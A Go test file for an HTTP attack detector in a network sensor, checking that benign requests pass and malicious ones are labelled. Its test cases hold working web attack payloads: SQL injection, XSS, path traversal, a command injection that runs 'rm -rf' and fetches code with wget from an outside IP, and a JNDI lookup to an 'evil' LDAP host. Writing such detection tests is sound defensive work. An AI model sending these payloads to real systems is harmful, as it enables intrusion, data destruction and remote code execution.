package detect

import (
	"net/netip"
	"testing"
	"time"

	"github.com/apitap/apitap/sensor/flow"
	"github.com/apitap/apitap/sensor/http1"
	"github.com/apitap/apitap/sensor/sensortest"
)

func TestInspect(t *testing.T) {
	cases := []struct {
		name, req string
		want      string
	}{
		{"plain", "GET /api/v3/pet/12?status=available&tags=dog HTTP/1.1\r\nHost: a\r\n\r\n", ""},
		{"words with quotes", "GET /search?q=O%27Reilly+books HTTP/1.1\r\nHost: a\r\n\r\n", ""},
		{"email", "GET /users?email=ann%40example.com HTTP/1.1\r\nHost: a\r\n\r\n", ""},
		{"json", "POST /orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 47\r\n\r\n{\"item\":\"tea\",\"note\":\"leave at door\",\"qty\":2}\n", ""},
		{"dvwa sqli", "GET /dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit HTTP/1.1\r\nHost: a\r\n\r\n", SQLi},
		{"union", "GET /item?id=1+UNION+SELECT+username,password+FROM+users-- HTTP/1.1\r\nHost: a\r\n\r\n", SQLi},
		{"xss", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n", XSS},
		{"traversal", "GET /files?name=..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\nHost: a\r\n\r\n", PathTraversal},
		{"cmd", "GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x HTTP/1.1\r\nHost: a\r\n\r\n", CommandInjection},
		{"jndi header", "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil/a}\r\n\r\n", JNDI},
		{"json sqli", "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n{\"user\":\"admin' OR 1=1 --\",\"password\":\"x\"}\n", SQLi},
		{"form xss", "POST /comment HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 38\r\n\r\nbody=%3Cimg+src%3Dx+onerror%3Dalert(1)", XSS},
	}
	cl, sv := netip.MustParseAddrPort("10.0.0.1:40000"), netip.MustParseAddrPort("10.0.0.2:80")
	var in inspector
	for _, c := range cases {
		x := sensortest.Exchange(t, cl, sv, time.Unix(0, 0), time.Millisecond, c.req, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
		if got, input := in.inspect(&x.Request); got != c.want {
			t.Errorf("%s: got %q (input %q), want %q", c.name, got, input, c.want)
		}
	}
}

func TestObjectID(t *testing.T) {
	for _, c := range []struct{ route, target, want string }{
		{"/users/{id}", "/users/7?x=1", "7/"},
		{"/api/v3/pet/{petId}", "/api/v3/pet/12", "12/"},
		{"/pet/{id}/photos/{n}", "/api/v3/pet/12/photos/3", "3/12/"},
		{"/users/{id}", "/users", ""},
		{"/users/me", "/users/me", ""},
	} {
		b, _ := objectID(nil, c.route, c.target)
		if got := string(b); got != c.want {
			t.Errorf("objectID(%q, %q) = %q, want %q", c.route, c.target, b, c.want)
		}
	}
}

// FuzzInspect: any request bytes the parser makes a request of are
// inspected without panic, and the same request gives the same verdict.
func FuzzInspect(f *testing.F) {
	for _, s := range []string{
		"GET /item?id=1+UNION+SELECT+1-- HTTP/1.1\r\nHost: a\r\n\r\n",
		"POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{\"user\":\"a' OR 1=1\"}",
		"POST /c HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nb=%3Cx%3E",
		"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n",
	} {
		f.Add(s)
	}
	cl, sv := netip.MustParseAddrPort("10.0.0.1:40000"), netip.MustParseAddrPort("10.0.0.2:80")
	f.Fuzz(func(t *testing.T, req string) {
		var got *http1.Transaction
		p := http1.NewParser(http1.Config{}, nil, func(x *http1.Transaction) {
			if got == nil {
				got = x
			}
		})
		c := p.NewConn(flow.Key{A: cl, B: sv})
		c.Data(flow.DirAB, 1, []byte(req), []flow.Span{{Seq: 1, AckOK: true}})
		c.End(flow.DirAB)
		c.Close()
		if got == nil {
			return
		}
		var a, b inspector
		st1, in1 := a.inspect(&got.Request)
		st2, in2 := b.inspect(&got.Request)
		if st1 != st2 || in1 != in2 {
			t.Fatalf("two verdicts: %q %q, %q %q", st1, in1, st2, in2)
		}
	})
}
